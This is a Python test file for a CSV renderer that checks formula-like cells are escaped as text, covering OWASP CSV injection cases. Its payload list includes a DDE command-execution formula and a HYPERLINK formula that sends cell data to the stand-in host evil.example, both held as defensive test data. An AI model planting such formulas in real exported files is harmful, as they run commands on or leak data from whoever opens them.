"""A table for a spreadsheet: everything in it is shown, nothing in it is run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postmortem.outputs.csv_table import render_csv

# The classes of https://owasp.org/www-community/attacks/CSV_Injection and ASVS 1.2.10.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\x1b=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "\tindented",
    "\rreturned",
)


def cells(table: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(table, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_begins_like_a_formula_is_shown_as_text(formula: str):
    assert cells(render_csv(["Task"], [[formula]]))[1][0].startswith("'")


def test_a_formula_behind_another_separator_is_text_there_too():
    """Where a semicolon separates, this cell would be two."""
    table = render_csv(["Id", "Task"], [["1", 'see;=1+1 and ;"=2']])

    assert not any(cell.startswith("=") for row in cells(table, ";") for cell in row)


def test_an_ordinary_cell_is_left_as_it_is():
    said = 'Raise the pool from 10 to 20, "today"; then check a=b'

    assert cells(render_csv(["Task", "Due"], [[said, "2026-12-03"]])) == [["Task", "Due"], [said, "2026-12-03"]]


def test_a_row_is_a_line():
    table = render_csv(["Task"], [["one\ntwo\r\nthree\u2028four"]])

    assert table == '"Task"\r\n"one two three four"\r\n'


@given(st.lists(st.tuples(st.text(), st.text()), max_size=4))
def test_whatever_is_said_the_table_keeps_its_shape(rows: list[tuple[str, str]]):
    table = cells(render_csv(["a", "b"], rows))

    assert len(table) == len(rows) + 1
    assert all(len(row) == 2 and not cell.startswith(("=", "+", "-", "@", "\t")) for row in table for cell in row)
